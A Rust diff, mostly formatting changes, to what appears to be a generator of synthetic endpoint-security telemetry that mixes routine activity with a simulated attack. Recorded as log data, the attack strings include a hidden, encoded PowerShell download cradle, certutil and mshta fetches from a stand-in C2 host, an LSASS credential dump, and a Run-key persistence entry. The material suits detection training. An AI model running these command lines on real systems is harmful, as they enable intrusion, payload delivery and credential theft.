@@ -56,19 +56,9 @@ fn device_info(snap: &Snapshot, t: &mut Tables) {
     for (i, d) in snap.devices.iter().enumerate() {
         let owner = snap.owner(i);
         let (device_type, distribution, vendor, model) = match d.os.as_str() {
-            "Linux" => (
-                "Server",
-                "Ubuntu",
-                "Microsoft Corporation",
-                "Virtual Machine",
-            ),
+            "Linux" => ("Server", "Ubuntu", "Microsoft Corporation", "Virtual Machine"),
             "macOS" => ("Workstation", "macOS", "Apple Inc.", "MacBookPro18,3"),
-            os if os.contains("Server") => (
-                "Server",
-                "Windows",
-                "Microsoft Corporation",
-                "Virtual Machine",
-            ),
+            os if os.contains("Server") => ("Server", "Windows", "Microsoft Corporation", "Virtual Machine"),
             _ => ("Workstation", "Windows", "Dell Inc.", "Latitude 7440"),
         };
         let logged_on = if d.server() {
@@ -110,10 +100,7 @@ fn device_info(snap: &Snapshot, t: &mut Tables) {
                 ("Vendor", s(vendor)),
                 ("Model", s(model)),
                 ("IsInternetFacing", boolean(false)),
-                (
-                    "SensorHealthState",
-                    s(if d.online { "Active" } else { "Inactive" }),
-                ),
+                ("SensorHealthState", s(if d.online { "Active" } else { "Inactive" })),
                 ("IsExcluded", boolean(false)),
                 ("ExposureLevel", s(&d.exposure)),
                 ("AssetValue", s(&d.value)),
@@ -147,13 +134,8 @@ fn network_info(snap: &Snapshot, t: &mut Tables) {
             "macOS" => "en0",
             _ => "Ethernet0",
         };
-        let mac = d
-            .mac
-            .as_bytes()
-            .chunks(2)
-            .map(|c| String::from_utf8_lossy(c).into_owned())
-            .collect::<Vec<_>>()
-            .join("-");
+        let mac =
+            d.mac.as_bytes().chunks(2).map(|c| String::from_utf8_lossy(c).into_owned()).collect::<Vec<_>>().join("-");
         for (n, day) in reporting_days(snap, d).into_iter().enumerate() {
             let ts = day - rng.random_range(0..TICKS_PER_HOUR);
             t.push(
@@ -212,16 +194,7 @@ const fn launch(
     system: bool,
     hosts: &'static [&'static str],
 ) -> Launch {
-    Launch {
-        parent,
-        file,
-        cmd,
-        system,
-        company: MS,
-        product: WIN,
-        hosts,
-        writes: None,
-    }
+    Launch { parent, file, cmd, system, company: MS, product: WIN, hosts, writes: None }
 }
 
 const WINDOWS_CLIENT: &[Launch] = &[
@@ -234,11 +207,7 @@ const WINDOWS_CLIENT: &[Launch] = &[
             r"C:\Program Files\Google\Chrome\Application\chrome.exe",
             r#""C:\Program Files\Google\Chrome\Application\chrome.exe""#,
             false,
-            &[
-                "www.google.com",
-                "login.microsoftonline.com",
-                "www.bing.com",
-            ],
+            &["www.google.com", "login.microsoftonline.com", "www.bing.com"],
         )
     },
     Launch {
@@ -311,20 +280,8 @@ const WINDOWS_CLIENT: &[Launch] = &[
         false,
         &[],
     ),
-    launch(
-        r"C:\Windows\explorer.exe",
-        r"C:\Windows\System32\cmd.exe",
-        r#""C:\Windows\System32\cmd.exe""#,
-        false,
-        &[],
-    ),
-    launch(
-        r"C:\Windows\System32\cmd.exe",
-        r"C:\Windows\System32\ipconfig.exe",
-        "ipconfig /all",
-        false,
-        &[],
-    ),
+    launch(r"C:\Windows\explorer.exe", r"C:\Windows\System32\cmd.exe", r#""C:\Windows\System32\cmd.exe""#, false, &[]),
+    launch(r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\ipconfig.exe", "ipconfig /all", false, &[]),
     launch(
         r"C:\Windows\System32\services.exe",
         r"C:\Windows\System32\svchost.exe",
@@ -432,21 +389,9 @@ const WINDOWS_SERVER: &[Launch] = &[
 ];
 
 const LINUX: &[Launch] = &[
-    launch(
-        "/usr/lib/systemd/systemd",
-        "/usr/sbin/sshd",
-        "sshd: {user} [priv]",
-        true,
-        &[],
-    ),
+    launch("/usr/lib/systemd/systemd", "/usr/sbin/sshd", "sshd: {user} [priv]", true, &[]),
     launch("/usr/sbin/sshd", "/usr/bin/bash", "-bash", false, &[]),
-    launch(
-        "/usr/bin/bash",
-        "/usr/bin/sudo",
-        "sudo apt-get update",
-        false,
-        &[],
-    ),
+    launch("/usr/bin/bash", "/usr/bin/sudo", "sudo apt-get update", false, &[]),
     launch(
         "/usr/bin/sudo",
         "/usr/bin/apt-get",
@@ -461,13 +406,7 @@ const LINUX: &[Launch] = &[
         true,
         &["{tenant}backup.blob.core.windows.net"],
     ),
-    launch(
-        "/usr/bin/bash",
-        "/usr/bin/git",
-        "git pull origin main",
-        false,
-        &["github.com"],
-    ),
+    launch("/usr/bin/bash", "/usr/bin/git", "git pull origin main", false, &["github.com"]),
     launch(
         "/usr/lib/systemd/systemd",
         "/opt/microsoft/mdatp/sbin/wdavdaemon",
@@ -482,13 +421,7 @@ const LINUX: &[Launch] = &[
         false,
         &["packages.microsoft.com"],
     ),
-    launch(
-        "/usr/bin/bash",
-        "/usr/bin/systemctl",
-        "systemctl status nginx",
-        false,
-        &[],
-    ),
+    launch("/usr/bin/bash", "/usr/bin/systemctl", "systemctl status nginx", false, &[]),
 ];
 
 const MACOS: &[Launch] = &[
@@ -514,11 +447,7 @@ const MACOS: &[Launch] = &[
             &[],
         )
     },
-    Launch {
-        company: "",
-        product: "",
-        ..launch("/bin/zsh", "/usr/bin/git", "git status", false, &[])
-    },
+    Launch { company: "", product: "", ..launch("/bin/zsh", "/usr/bin/git", "git status", false, &[]) },
     Launch {
         company: "",
         product: "",
@@ -558,8 +487,7 @@ fn file_of(path: &str) -> &str {
 }
 
 fn fill(text: &str, snap: &Snapshot, account: &Account) -> String {
-    text.replace("{user}", &account.name)
-        .replace("{tenant}", &snap.tenant_name.replace('-', ""))
+    text.replace("{user}", &account.name).replace("{tenant}", &snap.tenant_name.replace('-', ""))
 }
 
 /// Builds the parent and child processes of a launch at `when`.
@@ -572,9 +500,7 @@ fn processes(
     when: i64,
 ) -> (Proc, Proc) {
     // User shells start user programs as the user; everything else is started by a service.
-    let user_shell = ["explorer.exe", "bash", "zsh", "cmd.exe"]
-        .iter()
-        .any(|p| l.parent.ends_with(p));
+    let user_shell = ["explorer.exe", "bash", "zsh", "cmd.exe"].iter().any(|p| l.parent.ends_with(p));
     let parent_account = if user_shell && !l.system {
         account.clone()
     } else if l.parent.starts_with('/') {
@@ -582,11 +508,7 @@ fn processes(
     } else {
         Account::system()
     };
-    let logon_id = if account.is_system() {
-        999
-    } else {
-        0x3e7_0000 + rng.random_range(0..0xffff)
-    };
+    let logon_id = if account.is_system() { 999 } else { 0x3e7_0000 + rng.random_range(0..0xffff) };
     let parent_created = when - rng.random_range(TICKS_PER_MINUTE..6 * TICKS_PER_HOUR);
     let parent = Proc {
         file: file_of(l.parent).to_string(),
@@ -624,25 +546,14 @@ fn processes(
 }
 
 fn process_event(t: &mut Tables, d: &Device, parent: &Proc, child: &Proc) {
-    let mut row: Row = vec![
-        ("Timestamp", dt(child.created)),
-        ("ActionType", s("ProcessCreated")),
-    ];
+    let mut row: Row = vec![("Timestamp", dt(child.created)), ("ActionType", s("ProcessCreated"))];
     device_cells(d, t.report_id(), &mut row);
     child.created(&mut row);
     parent.initiating(&mut row);
     t.push("DeviceProcessEvents", row);
 }
 
-fn connection(
-    t: &mut Tables,
-    rng: &mut StdRng,
-    d: &Device,
-    p: &Proc,
-    host: &str,
-    port: i32,
-    when: i64,
-) {
+fn connection(t: &mut Tables, rng: &mut StdRng, d: &Device, p: &Proc, host: &str, port: i32, when: i64) {
     let mut row: Row = vec![
         ("Timestamp", dt(when)),
         ("ActionType", s("ConnectionSuccess")),
@@ -660,15 +571,7 @@ fn connection(
     t.push("DeviceNetworkEvents", row);
 }
 
-fn file_event(
-    t: &mut Tables,
-    d: &Device,
-    p: &Proc,
-    action: &str,
-    path: &str,
-    origin: Option<&str>,
-    when: i64,
-) {
+fn file_event(t: &mut Tables, d: &Device, p: &Proc, action: &str, path: &str, origin: Option<&str>, when: i64) {
     let h = hashes(path);
     let mut row: Row = vec![
         ("Timestamp", dt(when)),
@@ -731,15 +634,8 @@ fn device_event(t: &mut Tables, d: &Device, p: &Proc, action: &str, extra: Row, 
     t.push("DeviceEvents", row);
 }
 
-const DLLS: &[&str] = &[
-    "ntdll.dll",
-    "kernel32.dll",
-    "user32.dll",
-    "wininet.dll",
-    "crypt32.dll",
-    "bcrypt.dll",
-    "winhttp.dll",
-];
+const DLLS: &[&str] =
+    &["ntdll.dll", "kernel32.dll", "user32.dll", "wininet.dll", "crypt32.dll", "bcrypt.dll", "winhttp.dll"];
 
 /// Everyday activity on every device that reported in the window.
 fn activity(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
@@ -763,11 +659,7 @@ fn activity(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
         for _ in 0..launches {
             let l = pick(&mut rng, catalogue);
             let account = if l.system {
-                if d.windows() {
-                    Account::system()
-                } else {
-                    Account::root()
-                }
+                if d.windows() { Account::system() } else { Account::root() }
             } else if d.server() {
                 admin.clone()
             } else {
@@ -778,33 +670,15 @@ fn activity(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
             process_event(t, d, &parent, &child);
             for host in l.hosts {
                 let host = fill(host, snap, &account);
-                let port = if host.contains("archive.ubuntu.com") {
-                    80
-                } else {
-                    443
-                };
+                let port = if host.contains("archive.ubuntu.com") { 80 } else { 443 };
                 let at = when + rng.random_range(TICKS_PER_SECOND..TICKS_PER_MINUTE);
                 connection(t, &mut rng, d, &child, &host, port, at);
             }
             if let Some(w) = l.writes {
                 let path = fill(w, snap, &account);
-                let origin = path
-                    .contains("Downloads")
-                    .then_some("https://www.google.com/agenda.pdf");
-                let action = if origin.is_some() {
-                    "FileCreated"
-                } else {
-                    "FileModified"
-                };
-                file_event(
-                    t,
-                    d,
-                    &child,
-                    action,
-                    &path,
-                    origin,
-                    when + 2 * TICKS_PER_MINUTE,
-                );
+                let origin = path.contains("Downloads").then_some("https://www.google.com/agenda.pdf");
+                let action = if origin.is_some() { "FileCreated" } else { "FileModified" };
+                file_event(t, d, &child, action, &path, origin, when + 2 * TICKS_PER_MINUTE);
             }
             if d.windows() && rng.random_bool(0.35) {
                 for _ in 0..2 {
@@ -847,25 +721,9 @@ fn activity(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
                     }
                     (false, _) => format!("/tmp/{name}"),
                 };
-                file_event(
-                    t,
-                    d,
-                    &child,
-                    "FileCreated",
-                    &path,
-                    None,
-                    when + TICKS_PER_SECOND,
-                );
+                file_event(t, d, &child, "FileCreated", &path, None, when + TICKS_PER_SECOND);
                 if rng.random_bool(0.6) {
-                    file_event(
-                        t,
-                        d,
-                        &child,
-                        "FileDeleted",
-                        &path,
-                        None,
-                        when + 30 * TICKS_PER_SECOND,
-                    );
+                    file_event(t, d, &child, "FileDeleted", &path, None, when + 30 * TICKS_PER_SECOND);
                 }
             }
             if child.file.eq_ignore_ascii_case("powershell.exe") {
@@ -874,16 +732,11 @@ fn activity(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
                     d,
                     &child,
                     "PowerShellCommand",
-                    vec![(
-                        "AdditionalFields",
-                        json_text(json!({"Command": "Get-CimInstance"})),
-                    )],
+                    vec![("AdditionalFields", json_text(json!({"Command": "Get-CimInstance"})))],
                     when + 5 * TICKS_PER_SECOND,
                 );
             }
-            if child.file.eq_ignore_ascii_case("chrome.exe")
-                || child.file.eq_ignore_ascii_case("msedge.exe")
-            {
+            if child.file.eq_ignore_ascii_case("chrome.exe") || child.file.eq_ignore_ascii_case("msedge.exe") {
                 device_event(
                     t,
                     d,
@@ -891,10 +744,7 @@ fn activity(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
                     "BrowserLaunchedToOpenUrl",
                     vec![(
                         "RemoteUrl",
-                        s(&format!(
-                            "https://{}.sharepoint.com/sites/intranet",
-                            snap.tenant_name.replace('-', "")
-                        )),
+                        s(&format!("https://{}.sharepoint.com/sites/intranet", snap.tenant_name.replace('-', ""))),
                     )],
                     when,
                 );
@@ -924,10 +774,7 @@ fn activity(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
                     d,
                     &scanner,
                     "AntivirusScanCompleted",
-                    vec![(
-                        "AdditionalFields",
-                        json_text(json!({"ScanTypeIndex": "Quick", "DurationInSeconds": 312})),
-                    )],
+                    vec![("AdditionalFields", json_text(json!({"ScanTypeIndex": "Quick", "DurationInSeconds": 312})))],
                     day - 2 * TICKS_PER_HOUR,
                 );
             }
@@ -943,16 +790,8 @@ fn logons(snap: &Snapshot, t: &mut Tables) {
         let owner = snap.account(snap.owner(i));
         for day in reporting_days(snap, d) {
             let logonui = Proc {
-                file: if d.windows() {
-                    "lsass.exe".into()
-                } else {
-                    "sshd".into()
-                },
-                path: if d.windows() {
-                    r"C:\Windows\System32\lsass.exe".into()
-                } else {
-                    "/usr/sbin/sshd".into()
-                },
+                file: if d.windows() { "lsass.exe".into() } else { "sshd".into() },
+                path: if d.windows() { r"C:\Windows\System32\lsass.exe".into() } else { "/usr/sbin/sshd".into() },
                 cmd: if d.windows() {
                     r"C:\Windows\system32\lsass.exe".into()
                 } else {
@@ -960,11 +799,7 @@ fn logons(snap: &Snapshot, t: &mut Tables) {
                 },
                 pid: 700 + (i as i64 % 50),
                 created: day - 7 * TICKS_PER_DAY,
-                account: if d.windows() {
-                    Account::system()
-                } else {
-                    Account::root()
-                },
+                account: if d.windows() { Account::system() } else { Account::root() },
                 logon_id: 999,
                 company: MS,
                 product: WIN,
@@ -976,38 +811,18 @@ fn logons(snap: &Snapshot, t: &mut Tables) {
             };
             let (user, logon_type, remote) = if d.server() {
                 let admin = snap.account(&snap.users[(i * 3 + 1) % snap.users.len()]);
-                let from =
-                    (!clients.is_empty()).then(|| clients[rng.random_range(0..clients.len())]);
-                (
-                    admin,
-                    if d.windows() {
-                        "RemoteInteractive"
-                    } else {
-                        "Network"
-                    },
-                    from,
-                )
+                let from = (!clients.is_empty()).then(|| clients[rng.random_range(0..clients.len())]);
+                (admin, if d.windows() { "RemoteInteractive" } else { "Network" }, from)
             } else {
                 (owner.clone(), "Interactive", None)
             };
-            let failures = if rng.random_bool(0.1) {
-                1 + rng.random_range(0..2)
-            } else {
-                0
-            };
+            let failures = if rng.random_bool(0.1) { 1 + rng.random_range(0..2) } else { 0 };
             let when = day - rng.random_range(0..10 * TICKS_PER_HOUR);
             for k in 0..=failures {
                 let failed = k < failures;
                 let mut row: Row = vec![
                     ("Timestamp", dt(when + k as i64 * 20 * TICKS_PER_SECOND)),
-                    (
-                        "ActionType",
-                        s(if failed {
-                            "LogonFailed"
-                        } else {
-                            "LogonSuccess"
-                        }),
-                    ),
+                    ("ActionType", s(if failed { "LogonFailed" } else { "LogonSuccess" })),
                     ("LogonType", s(logon_type)),
                     ("AccountDomain", s(&user.domain)),
                     ("AccountName", s(&user.name)),
@@ -1036,14 +851,8 @@ fn logons(snap: &Snapshot, t: &mut Tables) {
                 ("Timestamp", dt(day - 23 * TICKS_PER_HOUR)),
                 ("ActionType", s("LogonSuccess")),
                 ("LogonType", s("Service")),
-                (
-                    "AccountDomain",
-                    s(if d.windows() { "nt authority" } else { "" }),
-                ),
-                (
-                    "AccountName",
-                    s(if d.windows() { "system" } else { "root" }),
-                ),
+                ("AccountDomain", s(if d.windows() { "nt authority" } else { "" })),
+                ("AccountName", s(if d.windows() { "system" } else { "root" })),
                 ("AccountSid", s(if d.windows() { "S-1-5-18" } else { "" })),
                 ("IsLocalAdmin", boolean(true)),
                 ("LogonId", long(999)),
@@ -1057,10 +866,7 @@ fn logons(snap: &Snapshot, t: &mut Tables) {
 
 /// Base64 of the UTF-16LE text, as `powershell -EncodedCommand` takes it.
 pub fn encode_powershell(script: &str) -> String {
-    let bytes: Vec<u8> = script
-        .encode_utf16()
-        .flat_map(|u| u.to_le_bytes())
-        .collect();
+    let bytes: Vec<u8> = script.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
     base64::engine::general_purpose::STANDARD.encode(bytes)
 }
 
@@ -1092,13 +898,7 @@ fn attack(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
         parent_pid: 812,
         parent_created: t0 - 5 * TICKS_PER_HOUR,
     };
-    let child = |ids: &mut Ids,
-                 rng: &mut StdRng,
-                 parent: &Proc,
-                 path: &str,
-                 cmd: &str,
-                 at: i64,
-                 signed: bool| Proc {
+    let child = |ids: &mut Ids, rng: &mut StdRng, parent: &Proc, path: &str, cmd: &str, at: i64, signed: bool| Proc {
         file: file_of(path).to_string(),
         path: path.to_string(),
         cmd: cmd.to_string(),
@@ -1120,9 +920,7 @@ fn attack(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
         &mut rng,
         &explorer,
         r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
-        &format!(
-            r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "{docm}" /o """#
-        ),
+        &format!(r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "{docm}" /o """#),
         t0,
         true,
     );
@@ -1130,15 +928,7 @@ fn attack(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
     chrome.file = "chrome.exe".into();
     chrome.path = r"C:\Program Files\Google\Chrome\Application\chrome.exe".into();
     chrome.cmd = r#""C:\Program Files\Google\Chrome\Application\chrome.exe""#.into();
-    file_event(
-        t,
-        d,
-        &chrome,
-        "FileCreated",
-        &docm,
-        Some(PHISH_URL),
-        t0 - TICKS_PER_MINUTE,
-    );
+    file_event(t, d, &chrome, "FileCreated", &docm, Some(PHISH_URL), t0 - TICKS_PER_MINUTE);
     process_event(t, d, &explorer, &word);
     // The macro starts PowerShell with an encoded download cradle.
     let script = format!("IEX (New-Object Net.WebClient).DownloadString('http://{C2_HOST}/a.ps1')");
@@ -1147,10 +937,7 @@ fn attack(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
         &mut rng,
         &word,
         r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
-        &format!(
-            "powershell.exe -NoP -NonI -W Hidden -EncodedCommand {}",
-            encode_powershell(&script)
-        ),
+        &format!("powershell.exe -NoP -NonI -W Hidden -EncodedCommand {}", encode_powershell(&script)),
         t0 + 40 * TICKS_PER_SECOND,
         true,
     );
@@ -1169,24 +956,13 @@ fn attack(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
         ps.created,
     );
     image_load(t, d, &ps, "amsi.dll", ps.created + TICKS_PER_SECOND);
-    connection(
-        t,
-        &mut rng,
-        d,
-        &ps,
-        C2_HOST,
-        80,
-        ps.created + 3 * TICKS_PER_SECOND,
-    );
+    connection(t, &mut rng, d, &ps, C2_HOST, 80, ps.created + 3 * TICKS_PER_SECOND);
     device_event(
         t,
         d,
         &ps,
         "PowerShellCommand",
-        vec![(
-            "AdditionalFields",
-            json_text(json!({"Command": "Invoke-Expression"})),
-        )],
+        vec![("AdditionalFields", json_text(json!({"Command": "Invoke-Expression"})))],
         ps.created + 4 * TICKS_PER_SECOND,
     );
     // certutil fetches the payload (a LOLBin download).
@@ -1202,15 +978,7 @@ fn attack(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
         true,
     );
     process_event(t, d, &ps, &certutil);
-    connection(
-        t,
-        &mut rng,
-        d,
-        &certutil,
-        C2_HOST,
-        80,
-        certutil.created + TICKS_PER_SECOND,
-    );
+    connection(t, &mut rng, d, &certutil, C2_HOST, 80, certutil.created + TICKS_PER_SECOND);
     file_event(
         t,
         d,
@@ -1241,15 +1009,7 @@ fn attack(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
         true,
     );
     process_event(t, d, &payload, &dump);
-    file_event(
-        t,
-        d,
-        &dump,
-        "FileCreated",
-        r"C:\Windows\Temp\lsass.dmp",
-        None,
-        dump.created + 2 * TICKS_PER_SECOND,
-    );
+    file_event(t, d, &dump, "FileCreated", r"C:\Windows\Temp\lsass.dmp", None, dump.created + 2 * TICKS_PER_SECOND);
     device_event(
         t,
         d,
@@ -1260,9 +1020,7 @@ fn attack(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
             ("FolderPath", s(r"C:\Windows\Temp\lsass.dmp")),
             (
                 "AdditionalFields",
-                json_text(
-                    json!({"ThreatName": "Behavior:Win32/LsassDump.A", "WasRemediated": false}),
-                ),
+                json_text(json!({"ThreatName": "Behavior:Win32/LsassDump.A", "WasRemediated": false})),
             ),
         ],
         dump.created + 3 * TICKS_PER_SECOND,
@@ -1310,10 +1068,7 @@ fn attack(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
         t,
         d,
         &payload,
-        &format!(
-            r"HKEY_CURRENT_USER\S-1-5-21\{}\SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
-            user.sid
-        ),
+        &format!(r"HKEY_CURRENT_USER\S-1-5-21\{}\SOFTWARE\Microsoft\Windows\CurrentVersion\Run", user.sid),
         "OneDriveUpdate",
         &payload_path,
         payload.created + 5 * TICKS_PER_MINUTE + TICKS_PER_SECOND,
@@ -1336,11 +1091,7 @@ fn lolbins(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
     let mut rng = snap.rng("lolbins");
     let base = snap.anchor - 6 * TICKS_PER_DAY;
     let runs: &[(&'static str, &'static str, &'static str)] = &[
-        (
-            r"C:\Windows\explorer.exe",
-            r"C:\Windows\System32\mshta.exe",
-            "mshta.exe http://{c2}/update.hta",
-        ),
+        (r"C:\Windows\explorer.exe", r"C:\Windows\System32\mshta.exe", "mshta.exe http://{c2}/update.hta"),
         (
             r"C:\Windows\System32\cmd.exe",
             r"C:\Windows\System32\regsvr32.exe",
@@ -1359,10 +1110,7 @@ fn lolbins(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
     ];
     for (k, run) in runs.iter().enumerate() {
         let (parent, file, cmd) = *run;
-        let l = Launch {
-            cmd: "",
-            ..launch(parent, file, "", false, &[])
-        };
+        let l = Launch { cmd: "", ..launch(parent, file, "", false, &[]) };
         let when = base + k as i64 * 37 * TICKS_PER_MINUTE;
         let (parent_proc, mut p) = processes(snap, &mut rng, ids, &l, &user, when);
         p.cmd = cmd.replace("{c2}", C2_HOST);
